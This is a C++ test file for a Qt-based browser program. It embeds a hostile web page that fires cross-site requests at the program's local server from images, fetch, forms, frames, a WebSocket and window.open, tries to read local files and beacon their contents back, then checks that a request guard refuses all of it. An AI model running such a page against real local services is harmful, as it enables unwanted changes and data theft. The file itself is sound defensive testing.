// A hostile web site shown in the program's page window, firing at our local server.
#include <gtest/gtest.h>
#include <signal.h>

#include <QWebEngineUrlRequestInfo>
#include <algorithm>
#include <iostream>
#include <sstream>

#include "WindowedProgram.h"
#include "support/RawHttp.h"
#include "ui/LocalServerGuard.h"

namespace {

using namespace std::chrono_literals;

// The hostile page: images, fetch (plain and no-cors), forms sent by script (GET and
// POST, into a frame), a redirect through its own site, a WebSocket and a navigation,
// aimed at every command on every name of our server, with and without a guessed key;
// it also tries to read our pages, and reports what it got to its own site. Frames of
// its own, holding the run's real key as if the page had learnt it, try once more: a
// sandboxed one (an image, fetch, then the top of the page), a data: one, a srcdoc one,
// and a window it opens.
const char kHostilePage[] = R"(<html><body><iframe name=sink></iframe>
<iframe sandbox='allow-scripts allow-top-navigation' srcdoc="
 <img src='http://localhost:PORT/sethome_browser.ido?homeurl=http://sandboxed.evil/&amp;key=KEY'>
 <script>fetch('http://localhost:PORT/clearhis_browser.ido/?sandboxed-fetch&amp;key=KEY', {mode: 'no-cors'});
 onmessage = () => top.location = 'http://localhost:PORT/sethome_browser.ido?homeurl=http://topnav.evil/&amp;key=KEY';
 </script>"></iframe>
<iframe src="data:text/html,<img src='http://localhost:PORT/sethome_browser.ido?homeurl=http://data.evil/&amp;key=KEY'>"
></iframe>
<iframe srcdoc="<img src='http://localhost:PORT/sethome_browser.ido?homeurl=http://srcdoc.evil/&amp;key=KEY'>"></iframe>
<form id=get target=sink method=get action='http://localhost:PORT/sethome_browser.ido'>
<input name=homeurl value='http://evil.example/'><input name=key value='GUESS'></form>
<form id=post target=sink method=post action='http://127.0.0.1:PORT/delscjitem_browser.ido?id=0'>
<input name=key value='GUESS'></form>
<script>
function report(x) { new Image().src = '/report?' + encodeURIComponent(x); }
var bases = ['http://localhost:PORT/', 'http://127.0.0.1:PORT/', 'http://[::1]:PORT/'];
var commands = ['delscjitem_browser.ido?id=0', 'delhis_browser.ido?id=0', 'clearhis_browser.ido/?x=1',
                'sethome_browser.ido?homeurl=javascript:alert(1)&Submit=s'];
bases.forEach(function(b) { commands.forEach(function(c) { ['', '&key=GUESS'].forEach(function(k) {
  new Image().src = b + c + k;
  fetch(b + c + k, {mode: 'no-cors'}).then(function() { report('REACHED ' + c); }, function() {});
}); }); });
bases.forEach(function(b) { ['scj.htm', 'menu.htm', 'varnok.ini', 'sysmsg.htm'].forEach(function(f) {
  fetch(b + f).then(function(r) { return r.text(); }).then(function(t) { report('READ ' + f + ' ' + t); },
                                                         function() {});
}); });
new Image().src = '/redirect';
try { new WebSocket('ws://localhost:PORT/clearhis_browser.ido/?key=GUESS'); } catch (e) {}
document.getElementById('get').submit();
document.getElementById('post').submit();
window.open('http://localhost:PORT/sethome_browser.ido?homeurl=http://opened.evil/&key=KEY');
setTimeout(function() { report('done'); frames[1].postMessage('go', '*'); }, 4000);
</script></body></html>)";

// The run's key, once the server has written it into the page of other functions.
std::string KeyIn(const std::string& menuPage) {
  const std::string field = "name=\"key\" value=\"";
  const size_t at = menuPage.find(field);
  return at == std::string::npos ? std::string() : menuPage.substr(at + field.size(), 32);
}

std::string HostilePage(int port, const std::string& guess, const std::string& key) {
  std::string page = kHostilePage;
  for (const auto& [name, value] :
       {std::pair<std::string, std::string>{"PORT", std::to_string(port)}, {"GUESS", guess}, {"KEY", key}})
    for (size_t at = page.find(name); at != std::string::npos; at = page.find(name, at + value.size()))
      page.replace(at, name.size(), value);
  return page;
}

TEST(CrossOriginTest, AHostilePageChangesNothingAndReadsNothing) {
  std::unique_ptr<Program> program;
  // The page may be asked for before the program's server is up: it waits for its port.
  PageListener site([&](const std::string& path) {
    if (path == "/redirect")
      return "HTTP/1.0 302 Found\r\nLocation: " + program->LocalUrl("/clearhis_browser.ido/") + "\r\n\r\n";
    if (path == "/evil") {
      const std::string key = KeyIn(program->Page("menu.htm"));
      if (key.empty()) return PageListener::HtmlAnswer("<script>setTimeout(() => location.reload(), 200)</script>");
      return PageListener::HtmlAnswer(HostilePage(program->port.Wait(), std::string(32, '7'), key));
    }
    return PageListener::HtmlAnswer("ok");
  });
  program = std::make_unique<Program>(site.Url("/evil"));
  program->environment["VARNOK_VERBOSE"] = "1";  // the server logs every request it parses
  WriteFileOrDie(program->dir / "varnok.ini",
                 "[homeurl]\r\nurl1=" + site.Url("/evil") +
                     "\r\n[history]\r\nurl1=http://h/\r\n[soucangjia]\r\nurl1=http://f/\r\n");
  auto child = program->Start();
  ASSERT_TRUE(WaitUntil([&] { return site.Requested("/report?done"); }, 90s)) << child->Output();
  // What the engine reports, for each kind of request, as the frame that made it: the
  // guard's log line for each, once all have come. Frames without an origin are named by
  // no initiator at all; srcdoc frames and windows opened by script by the page's origin.
  const std::string hostile = "[" + site.Url("/") + "]";
  const std::string withKey = "&key=" + KeyIn(program->Page("menu.htm")) + " from";
  struct Kind {
    const char* name;
    std::string marker, decision, initiator;
  };
  const Kind kinds[] = {
      {"typed address", "/evil from", "allows", "[]"},
      {"sandboxed frame, image", "homeurl=http://sandboxed.evil/" + withKey, "refuses", "[]"},
      {"sandboxed frame, fetch", "?sandboxed-fetch" + withKey, "refuses", "[]"},
      {"top navigation from a sandboxed frame", "homeurl=http://topnav.evil/" + withKey, "refuses", "[]"},
      {"data: frame", "homeurl=http://data.evil/" + withKey, "refuses", "[]"},
      {"srcdoc frame", "homeurl=http://srcdoc.evil/" + withKey, "refuses", hostile},
      {"window.open", "homeurl=http://opened.evil/" + withKey, "refuses", hostile},
      {"form post into a frame", "delscjitem_browser.ido?id=0 from " + hostile + " first party [" +
                                     site.Url("/evil") + "] navigation 5 resource 1", "refuses", hostile}};
  auto guardLine = [&](const std::string& marker) {
    std::istringstream log(child->Output());
    for (std::string line; std::getline(log, line);)
      if (line.rfind("request guard: ", 0) == 0 && line.find(marker) != std::string::npos) return line;
    return std::string();
  };
  auto allLogged = [&] {
    return std::all_of(std::begin(kinds), std::end(kinds), [&](const Kind& k) { return !guardLine(k.marker).empty(); });
  };
  ASSERT_TRUE(WaitUntil(allLogged, 60s)) << child->Output();
  for (const Kind& kind : kinds) {
    const std::string line = guardLine(kind.marker);
    std::cout << kind.name << ": " << line << "\n";
    EXPECT_EQ(line.rfind("request guard: " + kind.decision, 0), 0u) << kind.name << ": " << line;
    EXPECT_NE(line.find(" from " + kind.initiator + " "), std::string::npos) << kind.name << ": " << line;
  }
  // A request of our own, which the server must log like any other.
  RawHttpExchange(program->port.Wait(), "GET /sysmsg.htm HTTP/1.0\r\nHost: localhost\r\n\r\n");
  child->Signal(SIGTERM);
  ASSERT_EQ(child->WaitForExit(30s), 0) << child->Output();

  const std::string ini = program->Ini();
  EXPECT_NE(ini.find("[homeurl]\r\nurl1=" + site.Url("/evil") + "\r\n"), std::string::npos) << ini;
  EXPECT_NE(ini.find("url2=http://h/\r\n"), std::string::npos) << ini;
  EXPECT_NE(ini.find("[soucangjia]\r\nurl1=http://f/\r\n"), std::string::npos) << ini;
  EXPECT_NE(program->Page("scj.htm").find("http://f/"), std::string::npos);
  EXPECT_NE(program->Page("menu.htm").find("http://h/"), std::string::npos);

  const std::string reports = site.Requests();
  EXPECT_EQ(reports.find("READ"), std::string::npos) << reports;
  EXPECT_EQ(reports.find("REACHED"), std::string::npos) << reports;
  // Refused before they left the engine: the server never saw one of them, while it did
  // see the request the test made itself. The one exception is the hostile site's own
  // redirect: the engine does not show the guard the target of a redirect, so that
  // request may reach the server, where the missing key refuses it.
  const std::string redirected = "request GET /clearhis_browser.ido/ HTTP/1.1 parsed";
  std::string parsed;
  std::istringstream log(child->Output());
  for (std::string line; std::getline(log, line);)
    if (line.find(" parsed") != std::string::npos && line.find(redirected) == std::string::npos)
      parsed += line + "\n";
  if (child->Output().find(redirected) != std::string::npos) {
    EXPECT_NE(child->Output().find("[GET /clearhis_browser.ido/ HTTP/1.1] the command does not come from a page of "
                                   "this browser"),
              std::string::npos)
        << child->Output();
  }
  for (const char* name : {"_browser.ido", "scj.htm", "menu.htm", "varnok.ini", "POST", ".evil"})
    EXPECT_EQ(parsed.find(name), std::string::npos) << name << "\n" << parsed;
  EXPECT_NE(parsed.find("request GET /sysmsg.htm"), std::string::npos) << parsed;
}

// The guard's decision for requests as the engine describes them (the log of the
// scenario above shows what it reports for each kind).
TEST(LocalServerGuardTest, LetsThroughOnlyTheProgramsNavigationsAndOurOwnPages) {
  using Info = QWebEngineUrlRequestInfo;
  struct Case {
    const char* url;
    const char* initiator;
    Info::NavigationType navigation;
    bool mainFrame, allowed;
  };
  const char* command = "http://localhost:10101/delscjitem_browser.ido?id=0";
  const Case cases[] = {
      // Web sites: any name and letter case of our server, any kind of request.
      {"http://localhost:10101/scj.htm", "https://evil.example", Info::NavigationTypeOther, false, false},
      {"http://LOCALHOST:10101/", "https://evil.example", Info::NavigationTypeLink, true, false},
      {"http://[::1]:10101/clearhis_browser.ido/", "https://evil.example", Info::NavigationTypeFormSubmitted, true,
       false},
      {"ws://localhost:10101/delhis_browser.ido", "https://evil.example", Info::NavigationTypeOther, false, false},
      {command, "http://localhost:8080", Info::NavigationTypeOther, false, false},  // another port of ours
      // Frames without an origin (sandboxed, data:, srcdoc) and files: the engine names
      // no initiator, or only "file:///".
      {command, "", Info::NavigationTypeOther, false, false},
      {command, "", Info::NavigationTypeLink, true, false},
      {command, "file:///", Info::NavigationTypeLink, true, false},
      {command, "file:///", Info::NavigationTypeOther, false, false},
      // Going back to, or reloading, an address never let through.
      {"http://localhost:10101/x", "", Info::NavigationTypeBackForward, true, false},
      // The program's own navigations, then the pages our server sends.
      {"http://localhost:10101/x", "", Info::NavigationTypeTyped, true, true},
      {command, "http://localhost:10101", Info::NavigationTypeLink, true, true},
      {command, "http://127.0.0.1:10101", Info::NavigationTypeOther, false, true},
      // Back to, or reloading, what was let through before; not as a frame.
      {"http://localhost:10101/x#part", "", Info::NavigationTypeBackForward, true, true},
      {"http://localhost:10101/x", "", Info::NavigationTypeReload, true, true},
      {"http://localhost:10101/x", "", Info::NavigationTypeReload, false, false},
      // Everything not addressed to our server passes untouched.
      {"http://localhost:10102/", "https://evil.example", Info::NavigationTypeOther, false, true},
      {"https://localhost:10101/", "https://evil.example", Info::NavigationTypeOther, false, true},
      {"https://www.example.cn/", "", Info::NavigationTypeOther, false, true},
  };
  LocalServerGuard guard([] { return 10101; }, nullptr);
  for (const Case& c : cases)
    EXPECT_EQ(guard.Allows({QUrl(c.url), QUrl(c.initiator), c.navigation, c.mainFrame}), c.allowed)
        << c.url << " from [" << c.initiator << "] navigation " << c.navigation << " main frame " << c.mainFrame;
}

}  // namespace
